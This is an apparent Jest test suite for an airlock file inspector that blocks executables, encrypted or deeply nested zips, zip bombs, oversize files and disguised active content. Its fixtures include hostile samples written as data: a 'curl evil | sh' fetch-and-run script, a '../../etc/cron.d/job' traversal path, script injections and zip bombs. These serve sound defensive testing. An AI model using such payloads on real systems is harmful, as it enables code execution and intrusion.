import { randomBytes, randomUUID } from 'node:crypto';
import { PassThrough } from 'node:stream';
import zlib from 'node:zlib';
import { ContentPolicy, DEFAULT_CONTENT_POLICY, Finding } from '../../../src/domain/contentPolicy';
import { clamavCapacity } from '../../../src/domain/scanCapacity';
import { ConflictError, NotFoundError } from '../../../src/domain/errors';
import { storageAccountName } from '../../../src/domain/stages';
import { BlobStageStorage } from '../../../src/infra/blobStageStorage';
import { inspectFile, MAX_MEMBERS_LISTED, NESTED_ZIP_MEMORY_LIMIT_BYTES } from '../../../src/infra/scanning/contentInspector';
import { ByteRange, ContainerRef, FileContent, StageStorage, StoredFile } from '../../../src/infra/stageStorage';
import { newAccountKey, RunningAzurite, startAzurite } from '../../../src/local/azurite';
import { buildZip, nestedZip, ZipEntrySpec } from '../../support/zipFixture';

const TRE_ID = 'test';
const WORKSPACE_ID = 'ws01';
const ACCOUNT_NAME = storageAccountName('stalimip', { treId: TRE_ID, workspaceId: WORKSPACE_ID });
const accountKeys = { [ACCOUNT_NAME]: newAccountKey() };
const MiB = 1024 * 1024;

const ELF_HEADER = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, ...new Array(56).fill(0)]);
const PNG_HEADER = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48, 0x44, 0x52, ...new Array(48).fill(0)]);
const CSV = 'participant,age,score\np01,34,0.91\np02,29,0.87\n';

let azurite: RunningAzurite;
let storage: BlobStageStorage;

beforeAll(async () => {
  azurite = await startAzurite({ accounts: accountKeys });
  storage = new BlobStageStorage({ treId: TRE_ID, endpointTemplate: `${azurite.blobOrigin}/{account}`, auth: { kind: 'account-key', keys: accountKeys } });
});

afterAll(async () => {
  await azurite?.close();
});

async function upload(files: Record<string, Buffer | string>): Promise<ContainerRef> {
  const ref: ContainerRef = { account: 'stalimip', workspaceId: WORKSPACE_ID, container: randomUUID() };
  await storage.ensureContainer(ref);
  await putFiles(ref, files);
  return ref;
}

async function putFiles(ref: ContainerRef, files: Record<string, Buffer | string>): Promise<void> {
  const containerUrl = new URL(await storage.containerUrl(ref, 'rwdl', new Date(Date.now() + 3_600_000)));
  for (const [name, content] of Object.entries(files)) {
    const url = new URL(containerUrl);
    url.pathname += `/${encodeURIComponent(name)}`;
    const response = await fetch(url, { method: 'PUT', headers: { 'x-ms-blob-type': 'BlockBlob' }, body: content });
    expect(response.status).toBe(201);
  }
}

/** The container's listing entry for `name`, as the caller of inspectFile hands it over. */
async function listed(ref: ContainerRef, name: string): Promise<StoredFile> {
  const file = (await storage.listFiles(ref)).find((candidate) => candidate.name === name);
  if (!file) throw new Error(`${name} is not in the container`);
  return file;
}

/** Uploads one file and inspects it. */
async function inspect(name: string, content: Buffer | string, policy: ContentPolicy = DEFAULT_CONTENT_POLICY, through: StageStorage = storage) {
  const ref = await upload({ [name]: content });
  return inspectFile(through, ref, await listed(ref, name), policy);
}

/** Which blob version was read is checked once, below; elsewhere any will do. */
const ANY_VERSION = { etag: expect.any(String), size: expect.any(Number) };
const rules = (findings: Finding[]) => findings.map((finding) => finding.rule);

/** Counts the bytes every raw inflate stream (yauzl's) produces while `run` runs. */
async function countingInflatedBytes<T>(run: () => Promise<T>): Promise<{ result: T; inflatedBytes: number }> {
  const original = zlib.createInflateRaw;
  let inflatedBytes = 0;
  Object.defineProperty(zlib, 'createInflateRaw', {
    configurable: true,
    value: (options?: zlib.ZlibOptions) => {
      const inflate = original(options);
      const push = inflate.push.bind(inflate);
      inflate.push = (chunk: Buffer | null, encoding?: BufferEncoding) => {
        if (chunk) inflatedBytes += chunk.length;
        return push(chunk, encoding);
      };
      return inflate;
    },
  });
  try {
    return { result: await run(), inflatedBytes };
  } finally {
    Object.defineProperty(zlib, 'createInflateRaw', { configurable: true, value: original });
  }
}

/** Storage that counts what is read through it, and can fail or change the blob on a chosen read. */
class ObservedStorage implements StageStorage {
  reads = 0;
  bytesRead = 0;
  beforeRead?: (read: number) => Promise<void>;
  /** This read's stream fails after its first chunk. */
  breakRead?: number;

  constructor(private readonly inner: StageStorage) {}

  async readFile(ref: ContainerRef, name: string, range?: ByteRange): Promise<FileContent> {
    this.reads += 1;
    await this.beforeRead?.(this.reads);
    const content = await this.inner.readFile(ref, name, range);
    const counted = new PassThrough();
    const breaks = this.breakRead === this.reads;
    counted.on('data', (chunk: Buffer) => {
      this.bytesRead += chunk.length;
      if (breaks) setImmediate(() => counted.destroy(new Error('socket hang up')));
    });
    content.stream.on('error', (error) => counted.destroy(error));
    // A reader that stops early closes what it read; the download under it must end too, or its socket stays open.
    counted.once('close', () => (content.stream as NodeJS.ReadableStream & { destroy?: () => void }).destroy?.());
    content.stream.pipe(counted);
    return { ...content, stream: counted };
  }

  ensureContainer = (ref: ContainerRef) => this.inner.ensureContainer(ref);
  listFiles = (ref: ContainerRef) => this.inner.listFiles(ref);
  hashFile = (ref: ContainerRef, name: string) => this.inner.hashFile(ref, name);
  copyFile: StageStorage['copyFile'] = (...args) => this.inner.copyFile(...args);
  deleteFile: StageStorage['deleteFile'] = (...args) => this.inner.deleteFile(...args);
  deleteContainer = (ref: ContainerRef) => this.inner.deleteContainer(ref);
  containerUrl: StageStorage['containerUrl'] = (...args) => this.inner.containerUrl(...args);
  ping = () => this.inner.ping();
}

describe('inspectFile: plain files', () => {
  test('a clean csv has no findings and no member list; the result names the version read', async () => {
    const ref = await upload({ 'data.csv': CSV });
    const file = await listed(ref, 'data.csv');
    expect(await inspectFile(storage, ref, file, DEFAULT_CONTENT_POLICY)).toEqual({
      type: 'csv',
      etag: file.etag,
      size: CSV.length,
      findings: [],
    });
  });

  test('an empty file is empty text', async () => {
    expect(await inspect('empty.txt', '')).toEqual({ type: 'txt', ...ANY_VERSION, findings: [] });
  });

  test('a png named .png passes', async () => {
    expect(await inspect('plot.png', PNG_HEADER)).toEqual({ type: 'png', ...ANY_VERSION, findings: [] });
  });

  test('text named .png is an extension mismatch', async () => {
    const inspection = await inspect('report.png', CSV);
    expect(inspection.findings).toEqual([
      { rule: 'extension-mismatch', message: 'report.png: the content is text, not png (the extension does not match the content)' },
    ]);
  });

  test('an ELF binary named .txt is an executable', async () => {
    const inspection = await inspect('notes.txt', ELF_HEADER);
    expect(inspection).toEqual({ type: 'executable', ...ANY_VERSION, findings: [expect.objectContaining({ rule: 'executable' })] });
    expect(inspection.findings[0].message).toMatch(/^notes\.txt: the content is an executable program or script, not txt/);
  });

  test('Parquet is confirmed by its tail', async () => {
    const parquet = Buffer.concat([Buffer.from('PAR1'), Buffer.from([0x15, 0x04, 0x15, 0x00]), randomBytes(10_000), Buffer.from('PAR1')]);
    expect(await inspect('table.parquet', parquet)).toEqual({ type: 'parquet', ...ANY_VERSION, findings: [] });
    const truncated = parquet.subarray(0, parquet.length - 4);
    expect(rules((await inspect('table.parquet', truncated)).findings)).toEqual(['extension-mismatch', 'type-not-allowed']);
  });

  test('a large file is judged from its head alone', async () => {
    const observed = new ObservedStorage(storage);
    const big = Buffer.concat([Buffer.from(CSV), Buffer.alloc(3 * MiB, 'x')]);
    const inspection = await inspect('big.csv', big, { ...DEFAULT_CONTENT_POLICY, maxFileSizeBytes: MiB }, observed);
    expect(rules(inspection.findings)).toEqual(['size']);
    expect(observed.bytesRead).toBeLessThanOrEqual(8 * 1024);
  });
});

describe('inspectFile: zips', () => {
  test('a zip of two csv files: members recorded, no findings', async () => {
    const zip = buildZip([
      { name: 'a.csv', content: CSV },
      { name: 'results/b.csv', content: CSV.repeat(10), method: 'stored' },
    ]);
    expect(await inspect('bundle.zip', zip)).toEqual({ type: 'zip', ...ANY_VERSION, findings: [], members: ['a.csv', 'results/b.csv'] });
  });

  test('an encrypted member is blocked', async () => {
    const zip = buildZip([
      { name: 'open.csv', content: CSV },
      { name: 'secret.csv', content: CSV, encrypted: true },
    ]);
    const inspection = await inspect('bundle.zip', zip);
    expect(inspection.findings).toEqual([
      {
        rule: 'archive-encrypted',
        message: 'bundle.zip: member secret.csv is encrypted; encrypted content cannot be checked, so remove the password',
      },
    ]);
    expect(inspection.members).toEqual(['open.csv', 'secret.csv']);
  });

  test('zips nested 3 deep are fine, and the nested members are listed', async () => {
    const inspection = await inspect('nested.zip', nestedZip(3));
    expect(inspection).toEqual({
      type: 'zip',
      ...ANY_VERSION,
      findings: [],
      members: ['level2.zip', 'level2.zip > level3.zip', 'level2.zip > level3.zip > data.csv'],
    });
  });

  test('zips nested 4 deep are blocked', async () => {
    const inspection = await inspect('nested.zip', nestedZip(4));
    expect(inspection.findings).toEqual([
      {
        rule: 'archive-depth',
        message: 'nested.zip: member level2.zip > level3.zip > level4.zip is a zip nested 4 levels deep; at most 3 levels are allowed',
      },
    ]);
  });

  test('a nested zip is told by its content too, whatever its name', async () => {
    const disguised = buildZip([{ name: 'inner.dat', content: buildZip([{ name: 'tool.exe', content: 'x' }]) }]);
    const inspection = await inspect('bundle.zip', disguised);
    expect(inspection.members).toEqual(['inner.dat', 'inner.dat > tool.exe']);
    expect(rules(inspection.findings)).toEqual(['executable']);
  });

  test('a zip bomb is blocked by its compression ratio without being inflated', async () => {
    const zeros = Buffer.alloc(200 * MiB);
    const bomb = buildZip([{ name: 'zeros.csv', content: zeros }]);
    expect(bomb.length).toBeLessThan(MiB);

    const started = Date.now();
    const { result, inflatedBytes } = await countingInflatedBytes(() => inspect('bomb.zip', bomb));

    expect(Date.now() - started).toBeLessThan(5_000);
    expect(inflatedBytes).toBe(0);
    expect(result.findings).toEqual([
      {
        rule: 'archive-ratio',
        message: expect.stringMatching(/^bomb\.zip: member zeros\.csv expands \d+:1 \(200 MiB from 199\.\d KiB\), over the limit of 100:1/),
      },
    ]);
  });

  test('a zip bomb whose header lies about its size is stopped once it inflates past the declared size', async () => {
    const declared = MiB;
    const bomb = buildZip([{ name: 'zeros.csv', content: Buffer.alloc(200 * MiB), declaredUncompressedSize: declared }]);

    const started = Date.now();
    const { result, inflatedBytes } = await countingInflatedBytes(() => inspect('liar.zip', bomb));

    expect(Date.now() - started).toBeLessThan(5_000);
    // zlib hands out 16 KiB chunks and may have a few ready when we stop reading
    expect(inflatedBytes).toBeLessThan(declared + 256 * 1024);
    expect(result.findings).toEqual([
      {
        rule: 'archive-size',
        message: 'liar.zip: member zeros.csv expands to more than the 1 MiB its header declares (such archives are treated as zip bombs)',
      },
    ]);
  });

  test('a bomb inside a nested zip is found too, and the real bytes inflated never pass the limit', async () => {
    const limit = 4 * MiB;
    const liar = buildZip([{ name: 'zeros.csv', content: Buffer.alloc(64 * MiB), declaredUncompressedSize: 3 * MiB }]);
    // stored: deflating the inner zip's (very regular) deflate stream again would trip the ratio check first
    const outer = buildZip([{ name: 'inner.zip', content: liar, method: 'stored' }]);

    const { result, inflatedBytes } = await countingInflatedBytes(() =>
      inspect('outer.zip', outer, { ...DEFAULT_CONTENT_POLICY, maxExpandedBytes: limit }),
    );

    expect(rules(result.findings)).toEqual(['archive-size']);
    expect(result.findings[0].message).toMatch(/^outer\.zip: member inner\.zip > zeros\.csv expands to more than the 3 MiB its header declares/);
    expect(inflatedBytes).toBeLessThan(limit);
  });

  test('a nested zip too large to hold in memory is blocked without being inflated', async () => {
    const inner = buildZip([{ name: 'zeros.bin', content: Buffer.alloc(NESTED_ZIP_MEMORY_LIMIT_BYTES + MiB), method: 'stored' }]);
    const outer = buildZip([{ name: 'inner.zip', content: inner }]);
    const lenient = { ...DEFAULT_CONTENT_POLICY, maxCompressionRatio: 10_000 };

    const { result, inflatedBytes } = await countingInflatedBytes(() => inspect('outer.zip', outer, lenient));

    expect(result.findings).toEqual([
      {
        rule: 'archive-size',
        message: 'outer.zip: member inner.zip is a nested zip of 65 MiB, too large to inspect (at most 64 MiB); add its files to the outer zip instead',
      },
    ]);
    expect(inflatedBytes).toBeLessThan(MiB);
  });

  test('a zip whose members together expand beyond the limit is blocked', async () => {
    const zip = buildZip([
      { name: 'a.csv', content: Buffer.alloc(3 * MiB, 'a,b\n') },
      { name: 'b.csv', content: Buffer.alloc(3 * MiB, 'c,d\n') },
    ]);
    const inspection = await inspect('big.zip', zip, { ...DEFAULT_CONTENT_POLICY, maxExpandedBytes: 5 * MiB, maxCompressionRatio: 10_000 });
    expect(inspection.findings).toEqual([
      { rule: 'archive-size', message: "big.zip: the zip expands to 6 MiB, over this workspace's limit of 5 MiB" },
    ]);
  });

  test('a corrupt zip is unreadable, and so blocked', async () => {
    const zip = buildZip([{ name: 'a.csv', content: CSV }]);
    const truncated = zip.subarray(0, zip.length - 10);
    const inspection = await inspect('broken.zip', truncated);
    expect(inspection.type).toBe('zip');
    expect(inspection.findings).toEqual([
      { rule: 'archive-unreadable', message: expect.stringMatching(/^broken\.zip: the zip cannot be read \(.+\); a damaged or unusual archive cannot be checked$/) },
    ]);
  });

  test('a member whose compressed data is damaged is unreadable', async () => {
    const zip = buildZip([{ name: 'a.csv', content: randomBytes(4096).toString('hex') }]);
    const dataStart = 30 + 'a.csv'.length;
    zip.fill(0xff, dataStart, dataStart + 64);
    const inspection = await inspect('damaged.zip', zip);
    expect(rules(inspection.findings)).toEqual(['archive-unreadable']);
    expect(inspection.findings[0].message).toMatch(/^damaged\.zip: member a\.csv cannot be read/);
  });

  test('member names that escape the archive make it unreadable', async () => {
    const zip = buildZip([{ name: '../../etc/cron.d/job', content: 'x' }]);
    expect(rules((await inspect('escape.zip', zip)).findings)).toEqual(['archive-unreadable']);
  });

  test('an executable member is blocked, by extension or by content', async () => {
    const zip = buildZip([
      { name: 'data.csv', content: CSV },
      { name: 'setup.exe', content: 'MZ' },
      { name: 'lib/helper.bin', content: ELF_HEADER, method: 'stored' },
      { name: 'tools/run', content: '#!/bin/bash\ncurl evil | sh\n' },
    ]);
    const inspection = await inspect('bundle.zip', zip);
    expect(inspection.findings).toEqual([
      { rule: 'executable', message: 'bundle.zip: member setup.exe is a program or script (by its extension); executables cannot pass the airlock' },
      { rule: 'executable', message: 'bundle.zip: member lib/helper.bin is an executable program or script; executables cannot pass the airlock' },
      { rule: 'executable', message: 'bundle.zip: member tools/run is an executable program or script; executables cannot pass the airlock' },
    ]);
  });

  test('a stored member is not read beyond its head', async () => {
    const observed = new ObservedStorage(storage);
    const zip = buildZip([
      { name: 'raw.bin', content: randomBytes(4 * MiB), method: 'stored' },
      { name: 'a.csv', content: CSV },
    ]);
    const inspection = await inspect('bundle.zip', zip, DEFAULT_CONTENT_POLICY, observed);
    expect(inspection.findings).toEqual([]);
    expect(observed.bytesRead).toBeLessThan(256 * 1024);
  });

  test('many small members cost few reads, and the member list is capped', async () => {
    const observed = new ObservedStorage(storage);
    const members: ZipEntrySpec[] = Array.from({ length: MAX_MEMBERS_LISTED + 5 }, (_, index) => ({ name: `rows/${index}.csv`, content: `id\n${index}\n` }));
    const inspection = await inspect('many.zip', buildZip(members), DEFAULT_CONTENT_POLICY, observed);
    expect(inspection.findings).toEqual([]);
    expect(inspection.members).toHaveLength(MAX_MEMBERS_LISTED + 1);
    expect(inspection.members?.at(-1)).toBe('… and 5 more');
    expect(observed.reads).toBeLessThan(20);
  });

  test('findings of one kind are capped, with a count of the rest', async () => {
    const members: ZipEntrySpec[] = Array.from({ length: 30 }, (_, index) => ({ name: `s${index}.csv`, content: CSV, encrypted: true }));
    const inspection = await inspect('locked.zip', buildZip(members));
    expect(inspection.findings).toHaveLength(21);
    expect(inspection.findings.at(-1)).toEqual({ rule: 'archive-encrypted', message: 'locked.zip: 10 more members with the same problem (archive-encrypted)' });
  });
});

describe('inspectFile: storage failures are thrown, not findings', () => {
  test('a listed file deleted before it is read', async () => {
    const ref = await upload({ 'gone.csv': CSV });
    const file = await listed(ref, 'gone.csv');
    await storage.deleteFile(ref, 'gone.csv');
    await expect(inspectFile(storage, ref, file, DEFAULT_CONTENT_POLICY)).rejects.toBeInstanceOf(NotFoundError);
  });

  test('a file replaced between its listing and its inspection: the listed version is insisted on', async () => {
    const ref = await upload({ 'data.csv': CSV });
    const file = await listed(ref, 'data.csv');
    await putFiles(ref, { 'data.csv': ELF_HEADER });
    await expect(inspectFile(storage, ref, file, DEFAULT_CONTENT_POLICY)).rejects.toBeInstanceOf(ConflictError);
  });

  /** Reads: the head, the end of the zip (its central directory), a local header block, then the big member's data. */
  const zipWithBigMember = () => buildZip([{ name: 'a.csv', content: CSV }, { name: 'big.bin', content: randomBytes(512 * 1024) }]);

  test('the zip reads as they should be, for the tests below', async () => {
    const observed = new ObservedStorage(storage);
    expect((await inspect('bundle.zip', zipWithBigMember(), DEFAULT_CONTENT_POLICY, observed)).findings).toEqual([]);
    expect(observed.reads).toBe(4);
  });

  test.each([
    ['of the central directory', 2],
    ['of a member', 4],
  ])('a failing read %s, inside yauzl', async (_, failingRead) => {
    const observed = new ObservedStorage(storage);
    observed.beforeRead = async (read) => {
      if (read === failingRead) throw new Error('connection reset');
    };
    await expect(inspect('bundle.zip', zipWithBigMember(), DEFAULT_CONTENT_POLICY, observed)).rejects.toThrow('connection reset');
  });

  test('a download that breaks off in the middle of a member', async () => {
    const observed = new ObservedStorage(storage);
    observed.breakRead = 4;
    await expect(inspect('bundle.zip', zipWithBigMember(), DEFAULT_CONTENT_POLICY, observed)).rejects.toThrow('socket hang up');
  });

  test('a blob replaced while it is inspected', async () => {
    const observed = new ObservedStorage(storage);
    const ref = await upload({ 'bundle.zip': buildZip([{ name: 'a.csv', content: CSV }]) });
    observed.beforeRead = async (read) => {
      if (read === 2) await putFiles(ref, { 'bundle.zip': buildZip([{ name: 'b.csv', content: CSV }]) });
    };
    await expect(inspectFile(observed, ref, await listed(ref, 'bundle.zip'), DEFAULT_CONTENT_POLICY)).rejects.toBeInstanceOf(ConflictError);
  });
});

describe('inspectFile: what the malware scanner cannot fully scan', () => {
  /** clamd with MaxFileSize and StreamMaxLength 2M, MaxScanSize 3M. */
  const smallClamd = clamavCapacity({ maxFileSizeMb: 2, streamMaxLengthMb: 2, maxScanSizeMb: 3 });
  /** Settings as loose as they once could be: the scanner's limits must hold whatever they say. */
  const loose: ContentPolicy = { ...DEFAULT_CONTENT_POLICY, maxFileSizeBytes: 51_200 * MiB, maxExpandedBytes: 51_200 * MiB, scanCapacity: smallClamd };

  test('a zip member larger than the scanner scans is blocked by its declared size, without inflating it', async () => {
    // 30 KiB on disk claiming 2.3 GB, EICAR-like text at its end: what clamd 1.4 reports OK.
    const zip = buildZip([{ name: 'big.bin', content: Buffer.concat([randomBytes(30 * 1024), Buffer.from('X5O!P%@AP')]), declaredUncompressedSize: 2_300_000_000 }]);
    const { result: inspection, inflatedBytes } = await countingInflatedBytes(() => inspect('bundle.zip', zip, loose));
    expect(inspection.findings).toContainEqual({
      rule: 'scan-capacity',
      message: expect.stringMatching(/^bundle\.zip: member big\.bin cannot be fully scanned: it expands to 2\.14 GiB, and ClamAV \(clamd MaxFileSize 2M.*scans archive members of at most 2 MiB/),
    });
    expect(inflatedBytes).toBe(0);
  });

  test('a member just under the limit is read as usual', async () => {
    const zip = buildZip([{ name: 'a.csv', content: Buffer.alloc(2 * MiB - 200, 'a'), method: 'stored' }]);
    expect((await inspect('bundle.zip', zip, loose)).findings).toEqual([]);
  });

  test('members that together expand beyond the scan-size limit are blocked', async () => {
    // Each member compresses 50:1, within the ratio limit, so the zip itself is small.
    const part = Buffer.concat([randomBytes(20 * 1024), Buffer.alloc(MiB - 20 * 1024)]);
    const members = Array.from({ length: 4 }, (_, index) => ({ name: `part${index}.bin`, content: part }));
    const findings = (await inspect('parts.zip', buildZip(members), loose)).findings;
    expect(findings).toEqual([
      { rule: 'scan-capacity', message: expect.stringMatching(/^parts\.zip: the zip cannot be fully scanned: it expands to 4 MiB, and ClamAV .* scans at most 3 MiB in one scan/) },
    ]);
  });

  test('a file larger than the scanner takes is blocked, whatever the workspace allows', async () => {
    const findings = (await inspect('big.csv', Buffer.alloc(2 * MiB + 1, 'a'), loose)).findings;
    expect(findings).toEqual([{ rule: 'scan-capacity', message: expect.stringMatching(/^big\.csv: the file cannot be fully scanned: it is 2097153 bytes, .* of at most 2097152 bytes/) }]);
  });

  test('with scanning off there is no scanner limit to meet', async () => {
    const zip = buildZip([{ name: 'big.bin', content: randomBytes(1024), declaredUncompressedSize: 200 * 1024 }]);
    expect(rules((await inspect('bundle.zip', zip, { ...loose, scanCapacity: undefined })).findings)).not.toContain('scan-capacity');
  });
});

describe('inspectFile: active and disguised content, read once to the end', () => {
  test('HTML saved as .txt is blocked, even far past the head, and the file is read once', async () => {
    const observed = new ObservedStorage(storage);
    const text = Buffer.concat([Buffer.alloc(3 * MiB, 'plain text line\n'), Buffer.from('<script>alert(1)</script>\n')]);
    const inspection = await inspect('notes.txt', text, DEFAULT_CONTENT_POLICY, observed);
    expect(inspection.findings).toEqual([
      { rule: 'markup-in-text', message: 'notes.txt: the content is HTML, not plain text; markup can run in a browser, so it cannot pass as text' },
    ]);
    expect(observed.bytesRead).toBeLessThanOrEqual(text.length + 8 * 1024);
  });

  test('a file no longer than its head is read once, and still judged to its end', async () => {
    const observed = new ObservedStorage(storage);
    const inspection = await inspect('notes.txt', 'plain text line\n<script>alert(1)</script>\n', DEFAULT_CONTENT_POLICY, observed);
    expect(rules(inspection.findings)).toEqual(['markup-in-text']);
    expect(observed.reads).toBe(1);
  });

  test('a PDF header followed by an executable is blocked', async () => {
    const inspection = await inspect('paper.pdf', Buffer.concat([Buffer.from('%PDF-1.4\n'), ELF_HEADER, randomBytes(100_000)]));
    expect(inspection.type).toBe('pdf');
    expect(rules(inspection.findings)).toEqual(['malformed', 'embedded-executable']);
  });

  test('an SVG with a script is blocked', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("https://x.example")</script></svg>';
    expect((await inspect('plot.svg', svg)).findings).toEqual([{ rule: 'active-content', message: expect.stringContaining('plot.svg: the SVG has a script element') }]);
  });

  test('a well-formed PDF and a plain CSV pass', async () => {
    const pdf = '%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n';
    expect(await inspect('paper.pdf', pdf)).toEqual({ type: 'pdf', ...ANY_VERSION, findings: [] });
    expect(await inspect('data.csv', CSV)).toEqual({ type: 'csv', ...ANY_VERSION, findings: [] });
  });
});
